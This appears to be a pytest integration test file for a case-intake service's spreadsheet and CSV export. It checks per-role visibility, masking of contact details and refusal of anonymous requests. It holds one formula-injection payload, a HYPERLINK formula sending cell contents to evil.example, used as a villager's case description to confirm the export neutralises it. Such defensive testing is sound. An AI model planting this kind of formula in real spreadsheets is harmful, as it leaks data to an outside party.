"""The case list as a spreadsheet, from each reader's side: every reader gets exactly the cases GET /cases lists
to them, with the same filters, each as on screen — the contact masked, and only where the list shows it; a
villager's words that look like a formula come out as text; nobody signed in gets nothing."""

import csv
import io
from contextlib import AsyncExitStack

import openpyxl
import pytest

from services.case_intake.views.exports import COLUMNS
from shared.auth import Role
from shared.privacy import mask_name, mask_phone
from shared.sheets_out import XLSX_MEDIA_TYPE
from tests.integration.city import build_town

PHONE, NAME = "13812345678", "王秀英"
INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
HEADINGS = [column.zh for column in COLUMNS]
CODE, KIND, CATEGORY, STATUS = (HEADINGS.index(name) for name in ("跟踪码", "类型", "类别", "状态"))
TOWNSHIP, GROUP, DESCRIPTION = (HEADINGS.index(name) for name in ("乡镇（街道）", "村民小组", "反映内容"))
CONTACT, PHONE_AT = HEADINGS.index("联系人"), HEADINGS.index("联系电话")


@pytest.fixture
async def town(nats_server, databases, keys):
    async with AsyncExitStack() as stack:
        yield await build_town(stack, nats_server, databases, keys)


async def exported(town, headers: dict[str, str], **params) -> list[list]:  # type: ignore[no-untyped-def]
    answer = await town.client.get("/exports/cases", params=params, headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX_MEDIA_TYPE
    assert answer.headers["content-disposition"].startswith('attachment; filename="cases_')
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADINGS
    return rows[1:]


async def listed(town, headers: dict[str, str], **params) -> dict[str, dict]:  # type: ignore[no-untyped-def]
    answer = await town.client.get("/cases", params={"limit": 200, **params}, headers=headers)
    assert answer.status_code == 200, answer.text
    return {item["tracking_code"]: item for item in answer.json()["items"]}


async def four_cases(town) -> dict[str, dict]:  # type: ignore[no-untyped-def]
    own = await town.file(town.villager("villager-1"), description=INJECTION, contact_phone=PHONE, contact_name=NAME)
    elsewhere = await town.file(town.villager("villager-2"), grid_id=town.other_group_id, contact_phone=PHONE)
    on_behalf = await town.file(town.staff(), channel="walk_in", contact_phone=PHONE, contact_name=NAME)
    dispute = await town.file(town.villager("villager-3"), kind="dispute", category="neighbourhood")
    referred = await town.file(town.villager("villager-5"), contact_phone=PHONE)
    await town.act(referred["id"], "accept", town.deputy())
    await town.act(referred["id"], "refer", town.deputy(), {"organisation": "water-bureau", "question": "请答复"})
    return {"own": own, "elsewhere": elsewhere, "on_behalf": on_behalf, "dispute": dispute, "referred": referred}


async def test_every_reader_gets_the_cases_their_list_shows_masked_as_on_screen(town):
    cases = await four_cases(town)
    readers = {
        "the office": town.office(),
        "station staff": town.staff(),
        "the deputy of group 1": town.deputy(),
        "the deputy of group 2": town.deputy(town.other_deputy_id),
        "the township's grid head": town.deputy(town.head_id),
        "the filing villager": town.villager("villager-1"),
        "another villager": town.villager("villager-9"),
        "the water bureau": town.officer(),
        "finance": town.keys.headers(Role.finance, subject="finance-1"),
    }
    for who, headers in readers.items():
        rows = await exported(town, headers)
        on_screen = await listed(town, headers)
        assert [row[CODE] for row in rows] == list(on_screen), who  # the same cases, in the same order
        for row in rows:
            item = on_screen[row[CODE]]
            assert (row[CONTACT], row[PHONE_AT]) == (item["contact_name_masked"], item["contact_phone_masked"]), who
            assert PHONE not in str(row) and NAME not in str(row), who
    # what that means: the office sees every case and its contact masked; a deputy the cases of their grids,
    # the contact only of those routed to them; the villager their own; the bureau what was referred to it
    office = {row[CODE]: row for row in await exported(town, town.office())}
    assert len(office) == 5
    own = office[cases["own"]["tracking_code"]]
    assert (own[CONTACT], own[PHONE_AT]) == (mask_name(NAME), mask_phone(PHONE)) == ("王**", "138****5678")
    assert own[DESCRIPTION] == "'" + INJECTION
    assert (own[KIND], own[CATEGORY], own[STATUS]) == ("求助诉求", "用水和水费", "待受理")
    assert (own[TOWNSHIP], own[GROUP]) == ("韶山乡", "第1组")
    deputy = {row[CODE]: row for row in await exported(town, town.deputy())}
    assert cases["elsewhere"]["tracking_code"] not in deputy and deputy[cases["own"]["tracking_code"]][PHONE_AT]
    head = await exported(town, town.deputy(town.head_id))
    assert len(head) == 5 and all(row[PHONE_AT] is None for row in head)  # supervises the township: no contact
    villager = await exported(town, town.villager("villager-1"))
    assert [row[CODE] for row in villager] == [cases["own"]["tracking_code"]]
    bureau = await exported(town, town.officer())
    assert [(row[CODE], row[PHONE_AT]) for row in bureau] == [(cases["referred"]["tracking_code"], None)]
    assert await exported(town, town.villager("villager-9")) == []


async def test_the_filters_of_the_list_and_csv_with_english_headings(town):
    await four_cases(town)
    for params in ({"kind": "dispute"}, {"status": "referred"}, {"grid_id": town.other_group_id}, {"sort": "due"}):
        rows = await exported(town, town.office(), **params)
        assert [row[CODE] for row in rows] == list(await listed(town, town.office(), **params)), params
    answer = await town.client.get(
        "/exports/cases", params={"format": "csv", "kind": "request"}, headers={**town.staff(), "Accept-Language": "en"}
    )
    assert answer.status_code == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf") and "cases_" in answer.headers["content-disposition"]
    parsed = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert parsed[0] == [column.en for column in COLUMNS]
    assert len(parsed) == 1 + 4 and {row[KIND] for row in parsed[1:]} == {"Request for help"}
    assert {row[TOWNSHIP] for row in parsed[1:]} == {"韶山乡"}  # place names stay as they are
    injected = next(row for row in parsed[1:] if "HYPERLINK" in row[DESCRIPTION])
    assert injected[DESCRIPTION] == "'" + INJECTION and injected[PHONE_AT] == "138****5678"


async def test_nobody_signed_in_gets_nothing(town):
    await four_cases(town)
    answer = await town.client.get("/exports/cases")
    assert answer.status_code == 401 and answer.headers["content-type"] == "application/problem+json"
    assert (await town.client.get("/exports/cases", params={"format": "ods"}, headers=town.office())).status_code == 422
